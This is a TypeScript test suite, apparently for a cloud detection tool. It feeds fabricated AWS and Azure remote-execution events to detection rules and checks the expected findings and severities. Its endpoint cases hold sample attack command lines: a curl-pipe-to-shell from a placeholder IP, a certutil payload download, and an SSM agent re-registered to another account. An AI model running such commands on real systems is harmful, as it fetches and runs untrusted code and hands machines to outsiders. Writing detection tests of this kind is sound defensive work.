import { application, person } from '../../scripts/examples/activity-log'
import { role, user, type AwsCaller } from '../../scripts/examples/aws-callers'
import { ACCOUNT, AUTOMATION_ACCOUNT, GROUP, instance, SUBSCRIPTION, vm } from '../../scripts/examples/ids'
import { newStory, type Story } from '../../scripts/examples/story'
import { ACCESS, HOSTING, scanStory } from './scenario'

/** Calls that published rules watch, each alone in its logs, made by somebody who was never seen. */
interface Case {
  readonly name: string
  readonly write: (story: Story) => void
  /** Rules that report the last activity, empty when it is listed only. */
  readonly expected: Readonly<Record<string, string>>
}

const AT = '2026-03-02T10:00:00.000Z'
const newcomer = user('newcomer', { ip: ACCESS })
const guest = person('newcomer@example.com', 0x91, { ip: ACCESS })

const NEW_CALLER = { 'first-seen-caller': 'medium' }
const NEW = { ...NEW_CALLER, 'first-seen-caller-on-target': 'low' }

const call =
  (operation: string, request: Readonly<Record<string, unknown>>, by: AwsCaller = newcomer) =>
  (story: Story): void =>
    void story.trail.push(story.cloudTrail.call(AT, by, operation, request, {}))

const four =
  (operation: string, request: (machine: string) => Readonly<Record<string, unknown>>) =>
  (story: Story): void => {
    for (const number of [1, 2, 3, 4])
      story.trail.push(
        story.cloudTrail.call(`2026-03-02T10:00:0${number}.000Z`, newcomer, operation, request(instance(number)), {}),
      )
  }

const azure =
  (operation: string, resourceId: string, by = guest) =>
  (story: Story): void =>
    story.operation(AT, by, operation, resourceId)

const EXTENSION = 'Microsoft.Compute/virtualMachines/extensions/write'
const scaleSet = `${GROUP}/providers/Microsoft.Compute/virtualMachineScaleSets/web`
const arc = `${GROUP}/providers/Microsoft.HybridCompute/machines/branch-01`
const automation = (path: string): string => `${AUTOMATION_ACCOUNT}/${path}`

const AWS: readonly Case[] = [
  {
    name: 'SendCommand by a new caller',
    write: (story) => void story.send(AT, newcomer, { instances: [instance(1)] }),
    expected: NEW,
  },
  {
    name: 'SendCommand with the credentials of a machine',
    write: (story) => void story.send(AT, role('Web', instance(9), { ip: ACCESS }), { instances: [instance(1)] }),
    expected: { ...NEW, 'machine-credentials-elsewhere': 'high' },
  },
  {
    name: 'a denied SendCommand',
    write: (story) =>
      void story.trail.push(
        story.cloudTrail.denied(
          AT,
          newcomer,
          'ssm:SendCommand',
          `arn:aws:ec2:eu-west-1:${ACCOUNT}:instance/${instance(1)}`,
        ),
      ),
    expected: NEW_CALLER,
  },
  {
    name: 'CreateDocument by a new caller',
    write: call('ssm:CreateDocument', {
      name: 'Maintenance',
      documentType: 'Command',
      content: 'HIDDEN_DUE_TO_SECURITY_REASONS',
    }),
    expected: NEW_CALLER,
  },
  {
    name: 'UpdateDocumentDefaultVersion by a new caller',
    write: call('ssm:UpdateDocumentDefaultVersion', { name: 'Maintenance', documentVersion: '2' }),
    expected: NEW_CALLER,
  },
  {
    name: 'a document shared with everybody',
    write: call('ssm:ModifyDocumentPermission', {
      name: 'Maintenance',
      permissionType: 'Share',
      accountIdsToAdd: ['all'],
    }),
    expected: NEW_CALLER,
  },
  {
    name: 'StartSession by a new caller',
    write: (story) => void story.trail.push(story.cloudTrail.startSession(AT, newcomer, instance(1))),
    expected: NEW,
  },
  {
    name: 'a denied StartSession',
    write: (story) =>
      void story.trail.push(
        story.cloudTrail.denied(
          AT,
          newcomer,
          'ssm:StartSession',
          `arn:aws:ec2:eu-west-1:${ACCOUNT}:instance/${instance(1)}`,
        ),
      ),
    expected: NEW_CALLER,
  },
  {
    name: 'ResumeSession by a new caller',
    write: call('ssm:ResumeSession', { sessionId: 'session-1' }),
    expected: NEW_CALLER,
  },
  {
    name: 'sessions to four machines',
    write: four('ssm:StartSession', (target) => ({ target })),
    expected: { 'first-seen-caller-on-target': 'low', 'mass-execution': 'medium' },
  },
  {
    name: 'an SSH key to a machine',
    write: call('ec2-instance-connect:SendSSHPublicKey', { instanceId: instance(1), instanceOSUser: 'ec2-user' }),
    expected: NEW,
  },
  {
    name: 'SSH keys to four machines',
    write: four('ec2-instance-connect:SendSSHPublicKey', (instanceId) => ({ instanceId, instanceOSUser: 'ec2-user' })),
    expected: { 'first-seen-caller-on-target': 'low', 'mass-execution': 'medium' },
  },
  {
    name: 'a key for the serial console',
    write: call('ec2-instance-connect:SendSerialConsoleSSHPublicKey', { instanceId: instance(1), serialPort: 0 }),
    expected: NEW,
  },
  {
    name: 'a remote desktop of Fleet Manager',
    write: call('ssm-guiconnect:StartConnection', { InstanceId: instance(1) }),
    expected: NEW,
  },
  {
    name: 'user data of a machine',
    write: call('ec2:ModifyInstanceAttribute', { instanceId: instance(1), userData: '<sensitiveDataRemoved>' }),
    expected: NEW,
  },
  {
    name: 'user data in the older form',
    write: call('ec2:ModifyInstanceAttribute', {
      instanceId: instance(1),
      attribute: 'userData',
      value: '<sensitiveDataRemoved>',
    }),
    expected: NEW,
  },
  {
    name: 'a launch template with user data',
    write: call('ec2:CreateLaunchTemplate', {
      CreateLaunchTemplateRequest: {
        LaunchTemplateName: 'web',
        LaunchTemplateData: { UserData: '<sensitiveDataRemoved>' },
      },
    }),
    expected: NEW_CALLER,
  },
  {
    name: 'an association for a resource group',
    write: call('ssm:CreateAssociation', {
      name: 'AWS-RunShellScript',
      targets: [{ key: 'resource-groups:Name', values: ['web'] }],
    }),
    expected: { ...NEW_CALLER, 'broad-target-selector': 'medium' },
  },
  {
    name: 'an automation',
    write: call('ssm:StartAutomationExecution', {
      documentName: 'AWS-RestartEC2Instance',
      parameters: { InstanceId: [instance(1)] },
    }),
    expected: NEW_CALLER,
  },
  {
    name: 'a task of a maintenance window',
    write: call('ssm:RegisterTaskWithMaintenanceWindow', {
      windowId: 'mw-1',
      taskArn: 'AWS-RunShellScript',
      taskType: 'RUN_COMMAND',
      targets: [{ key: 'InstanceIds', values: [instance(1)] }],
    }),
    expected: NEW,
  },
  {
    name: 'a command in a container',
    write: call('ecs:ExecuteCommand', {
      cluster: 'shop',
      task: 'arn:aws:ecs:eu-west-1:123456789012:task/shop/0123456789abcdef0123456789abcdef',
      container: 'web',
      command: '/bin/sh',
      interactive: true,
    }),
    expected: NEW,
  },
  {
    name: 'a list of managed machines is listed only',
    write: call('ssm:DescribeInstanceInformation', {}),
    expected: {},
  },
  {
    name: 'an inventory read is listed only',
    write: call('ssm:ListInventoryEntries', { instanceId: instance(1) }),
    expected: {},
  },
  {
    name: 'an inventory read from a hosting network',
    write: call('ssm:ListInventoryEntries', { instanceId: instance(1) }, user('newcomer', { ip: HOSTING })),
    expected: { 'anonymised-source': 'low' },
  },
  {
    name: 'an instance profile on a running machine is listed only',
    write: call('ec2:ReplaceIamInstanceProfileAssociation', {
      ReplaceIamInstanceProfileAssociationRequest: { IamInstanceProfile: { Name: 'SSM' } },
    }),
    expected: {},
  },
  {
    name: 'a policy that allows Systems Manager is listed only',
    write: call('iam:PutRolePolicy', {
      roleName: 'Web',
      policyName: 'ssm',
      policyDocument: '{"Statement":[{"Effect":"Allow","Action":"ssm:*","Resource":"*"}]}',
    }),
    expected: {},
  },
  {
    name: 'the serial consoles of an account opened',
    write: call('ec2:EnableSerialConsoleAccess', { EnableSerialConsoleAccessRequest: '' }),
    expected: { 'access-settings-changed': 'low' },
  },
  {
    name: 'session preferences rewritten by a new caller',
    write: call('ssm:UpdateDocument', {
      name: 'SSM-SessionManagerRunShell',
      content: 'HIDDEN_DUE_TO_SECURITY_REASONS',
    }),
    expected: { ...NEW_CALLER, 'access-settings-changed': 'medium' },
  },
]

const AZURE: readonly Case[] = [
  {
    name: 'an action run command',
    write: azure('Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-1')),
    expected: NEW,
  },
  {
    name: 'an action run command on a scale-set instance',
    write: azure(
      'Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action',
      `${scaleSet}/virtualMachines/3`,
    ),
    expected: NEW,
  },
  {
    name: 'a managed run command',
    write: azure('Microsoft.Compute/virtualMachines/runCommands/write', `${vm('vm-1')}/runCommands/check`),
    expected: NEW,
  },
  {
    name: 'a managed run command on an Arc machine',
    write: azure('Microsoft.HybridCompute/machines/runCommands/write', `${arc}/runCommands/check`),
    expected: NEW,
  },
  {
    name: 'a command in an AKS cluster',
    write: azure(
      'Microsoft.ContainerService/managedClusters/runCommand/action',
      `${GROUP}/providers/Microsoft.ContainerService/managedClusters/aks-shop`,
    ),
    expected: NEW,
  },
  {
    name: 'a connection to a serial console',
    write: azure(
      'Microsoft.SerialConsole/serialPorts/connect/action',
      `${vm('vm-1')}/providers/Microsoft.SerialConsole/serialPorts/0`,
    ),
    expected: NEW,
  },
  {
    name: 'a script extension by a person',
    write: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`),
    expected: { ...NEW, 'extension-deployment': 'medium' },
  },
  {
    name: 'an extension by a pipeline',
    write: azure(EXTENSION, `${vm('vm-1')}/extensions/CustomScriptExtension`, application(0x92, ACCESS)),
    expected: { ...NEW, 'extension-deployment': 'low' },
  },
  {
    name: 'an extension on a whole scale set',
    write: azure('Microsoft.Compute/virtualMachineScaleSets/extensions/write', `${scaleSet}/extensions/CustomScript`),
    expected: { ...NEW, 'extension-deployment': 'medium' },
  },
  {
    name: 'an extension on an Arc machine',
    write: azure('Microsoft.HybridCompute/machines/extensions/write', `${arc}/extensions/CustomScript`),
    expected: { ...NEW, 'extension-deployment': 'medium' },
  },
  {
    name: 'a version of a gallery application',
    write: azure(
      'Microsoft.Compute/galleries/applications/versions/write',
      `${GROUP}/providers/Microsoft.Compute/galleries/g/applications/a/versions/1.0.0`,
    ),
    expected: NEW_CALLER,
  },
  {
    name: 'a runbook written',
    write: azure('Microsoft.Automation/automationAccounts/runbooks/write', automation('runbooks/Sync')),
    expected: NEW_CALLER,
  },
  {
    name: 'a runbook published',
    write: azure('Microsoft.Automation/automationAccounts/runbooks/publish/action', automation('runbooks/Sync')),
    expected: NEW_CALLER,
  },
  {
    name: 'a draft of a runbook tested',
    write: azure(
      'Microsoft.Automation/automationAccounts/runbooks/draft/testJob/write',
      automation('runbooks/Sync/draft/testJob'),
    ),
    expected: { ...NEW_CALLER, 'automation-runbook': 'low' },
  },
  {
    name: 'a runbook job',
    write: azure('Microsoft.Automation/automationAccounts/jobs/write', automation('jobs/1')),
    expected: { ...NEW_CALLER, 'automation-runbook': 'low' },
  },
  {
    name: 'a webhook',
    write: azure('Microsoft.Automation/automationAccounts/webhooks/write', automation('webhooks/hook')),
    expected: NEW_CALLER,
  },
  {
    name: 'a schedule',
    write: azure('Microsoft.Automation/automationAccounts/schedules/write', automation('schedules/hourly')),
    expected: NEW_CALLER,
  },
  {
    name: 'a runbook linked to a schedule',
    write: azure('Microsoft.Automation/automationAccounts/jobSchedules/write', automation('jobSchedules/1')),
    expected: NEW_CALLER,
  },
  {
    name: 'a watcher task',
    write: azure(
      'Microsoft.Automation/automationAccounts/watchers/watcherActions/write',
      automation('watchers/w/watcherActions/a'),
    ),
    expected: NEW_CALLER,
  },
  {
    name: 'boot diagnostics are listed only',
    write: azure('Microsoft.Compute/virtualMachines/retrieveBootDiagnosticsData/action', vm('vm-1')),
    expected: {},
  },
  {
    name: 'an automation account is listed only',
    write: azure('Microsoft.Automation/automationAccounts/write', AUTOMATION_ACCOUNT),
    expected: {},
  },
  {
    name: 'a runbook deleted is listed only',
    write: azure('Microsoft.Automation/automationAccounts/runbooks/delete', automation('runbooks/Sync')),
    expected: {},
  },
  {
    name: 'a role assignment is listed only',
    write: azure(
      'Microsoft.Authorization/roleAssignments/write',
      `/subscriptions/${SUBSCRIPTION}/providers/Microsoft.Authorization/roleAssignments/1`,
    ),
    expected: {},
  },
]

const ENDPOINT: readonly Case[] = [
  {
    name: 'a download under the SSM agent',
    write: (story) => {
      const commandId = story.send(AT, newcomer, { instances: [instance(1)] })
      story.guest(
        '2026-03-02T10:00:05.000Z',
        instance(1),
        commandId,
        '/usr/bin/bash',
        'bash -c "curl -fsS http://203.0.113.9/x | sh"',
      )
    },
    expected: { 'suspicious-command': 'high' },
  },
  {
    name: 'a tool under the custom script extension',
    write: (story) =>
      story.start(AT, {
        host: 'vm-1',
        executable: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: 'certutil -urlcache -f http://203.0.113.9/a.exe a.exe',
        parent:
          '"C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.' +
          'exe" enable',
        cloud: 'azure',
      }),
    expected: { 'suspicious-command': 'high' },
  },
  {
    name: 'an agent registered with another account',
    write: (story) => {
      const commandId = story.send(AT, newcomer, { instances: [instance(1)] })
      story.guest(
        '2026-03-02T10:00:05.000Z',
        instance(1),
        commandId,
        '/usr/bin/amazon-ssm-agent',
        'amazon-ssm-agent -register -code abc -id 00000000-0000-0000-0000-000000000001 -region eu-west-1',
      )
    },
    expected: { 'suspicious-command': 'high' },
  },
]

describe.each([
  ['AWS', AWS],
  ['Azure', AZURE],
  ['endpoint', ENDPOINT],
])('what peers watch: %s', (_part, cases) => {
  it.each(cases.map((row) => [row.name, row] as const))('%s', async (_name, { write, expected }) => {
    const story = newStory()
    write(story)
    const { findings, activities } = await scanStory(story)
    const last = Object.keys(findings)
      .toSorted((a, b) => (a.slice(0, 11) < b.slice(0, 11) ? -1 : 1))
      .at(-1)
    expect(last === undefined ? {} : findings[last]).toEqual(expected)
    expect(activities).toBeGreaterThan(0)
  })
})
